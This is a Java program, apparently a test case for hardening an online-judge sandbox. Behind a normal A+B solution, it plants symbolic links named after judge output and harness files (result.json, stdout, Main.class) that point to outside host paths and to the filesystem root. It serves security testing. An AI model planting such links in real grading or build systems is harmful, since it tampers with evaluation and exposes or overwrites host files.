// Plant symbolic links where a judge might write or read after the run, pointing at host files.
import java.nio.file.*;
import java.util.*;

public class PlantSymlinks {
  public static void main(String[] args) {
    Scanner in = new Scanner(System.in);
    long a = in.nextLong(), b = in.nextLong();
    Map<String, String> targets = Map.of(
        "Main.class", "@OUTSIDE@/keep.txt", "Solution.java", "@OUTSIDE@/keep.txt",
        "stdout", "@OUTSIDE@/keep.txt", "result.json", "@OUTSIDE@/keep.txt",
        "onsite-harness.jar", "@OUTSIDE@/keep.txt", "keepdir", "@OUTSIDE@/keepdir", "root", "/");
    for (String dir : List.of(".", System.getProperty("java.io.tmpdir"))) {
      targets.forEach((name, target) -> {
        try {
          Files.createSymbolicLink(Path.of(dir, name + "-j"), Path.of(target));
        } catch (Exception e) {
          // already there or refused
        }
      });
    }
    System.out.println(a + b);
  }
}
